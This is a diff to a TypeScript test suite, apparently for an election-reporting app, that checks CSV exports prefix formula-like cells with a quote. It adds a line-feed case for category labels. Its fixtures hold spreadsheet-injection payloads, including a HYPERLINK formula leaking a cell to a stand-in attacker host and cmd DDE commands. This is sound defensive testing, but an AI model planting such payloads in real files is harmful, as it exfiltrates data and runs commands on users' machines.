@@ -43,7 +43,7 @@ async function uniqueJpeg(name: string): Promise<UploadFile> {
   return { name, data, type: name.endsWith('.html') ? 'text/html' : 'application/x-msdownload' };
 }
 
-const FORMULA_START = /^[=+\-@\t\r]/;
+const FORMULA_START = /^[=+\-@\t\r\n]/;
 /** What XML 1.0 allows (https://www.w3.org/TR/xml/#charsets); anything else makes a feed unreadable. */
 const XML_FORBIDDEN = /[^\t\n\r\x20-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u;
 
@@ -85,13 +85,16 @@ describe('public output', () => {
 
   test('CSV export: a cell a spreadsheet would run as a formula starts with a quote; the JSON export is exact', async () => {
     const sent: Record<string, { region: string; title: string; description: string }> = {};
+    // OWASP's list also has line feed: a category label an admin typed starts with one.
+    const category = `t_lf_${randomBytes(4).toString('hex')}`;
+    await catalogRepo.insertCategory(system.ctx.db, { code: category, phaseCode: 'voting_day', labelRu: '\n=Категория', labelEn: '\n=Category' });
     for (const c of ['=', '+', '-', '@']) {
       const text = {
         region: `${c}HYPERLINK("http://attacker.example/?leak="&A1,"Москва")`,
         title: `${c}cmd|' /C calc'!A0`,
         description: `${c}SUM(1+1)*cmd|' /C calc'!A0 ${nonce}`,
       };
-      const id = await uploadAndProcess(system, base({ region: text.region, description: text.description }), [await uniquePng()]);
+      const id = await uploadAndProcess(system, base({ region: text.region, description: text.description, category_code: category }), [await uniquePng()]);
       await publish(moderator, id, { public_title: text.title });
       sent[id] = text;
     }
@@ -109,7 +112,7 @@ describe('public output', () => {
       expect(record.election_en).toMatch(/^\t=Election/);
       expect(record.election_ru).toMatch(/^\r=Выборы/);
       const row = csvRecords.find((r) => r.id === record.id)!;
-      for (const column of ['region', 'title', 'description', 'election_en', 'election_ru']) {
+      for (const column of ['region', 'title', 'description', 'election_en', 'election_ru', 'category_en', 'category_ru']) {
         expect({ column, cell: row[column] }).toEqual({ column, cell: `'${record[column]}` });
       }
       for (const [column, cell] of Object.entries(row)) {
